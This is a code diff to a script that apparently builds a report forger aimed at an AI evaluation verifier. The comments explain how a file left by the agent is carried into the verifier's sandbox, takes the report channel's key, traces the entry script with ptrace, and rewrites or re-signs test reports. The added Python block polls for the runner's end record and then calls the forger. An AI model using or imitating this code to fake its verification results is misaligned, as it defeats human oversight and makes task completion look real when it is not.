@@ -352,7 +352,7 @@ def git_commit(named: Named, workdir: str) -> list[str]:
 # the agent leaves there is carried into the verifier's sandbox; /tmp is not). Run by anything
 # of the verifier's (a program its script runs, a configuration its tools read), it forges
 # only where it runs as the judge (the report directory writable); a program a test runner
-# starts runs as the agent's uid and gives it nothing. As the judge it keeps the report
+# starts runs in the agent's domain and gives it nothing. As the judge it keeps the report
 # channel's key if no test runner has taken it yet and, best first: traces the entry script
 # (ptrace; refused in the verifier phase of this project's sandboxes, allowed in Docker's) and
 # rewrites every report when it exits; or, when no test runner will take the key (the
@@ -454,13 +454,20 @@ if ! grep -qsE 'pytest|py\.test|run_checks' "$entry" "$(dirname "${entry:-.}")"/
   sign new && rm -f $R/.t1-verdict-key
   exit 0
 fi
-# 3. a runner will take the key: re-sign its records the moment they close
-(
-  for _ in $(seq 60000); do
-    grep -qsF '\"kind\":\"end\"' $P && { sign resign; break; }
-    sleep 0.002
-  done
-) </dev/null >/dev/null 2>&1 &
+# 3. a runner will take the key: re-sign its records the moment they close (one process
+#    polling, so that the runner it waits for is not starved)
+python3 - "$P" "$0" </dev/null >/dev/null 2>&1 <<'T1_FORGE_PY' &
+import subprocess, sys, time
+path, forger = sys.argv[1], sys.argv[2]
+for _ in range(60000):
+    try:
+        if '\\"kind\\":\\"end\\"' in open(path).read():
+            subprocess.run(["bash", forger, "final"], timeout=120)
+            break
+    except OSError:
+        pass
+    time.sleep(0.01)
+T1_FORGE_PY
 exit 0
 """
 
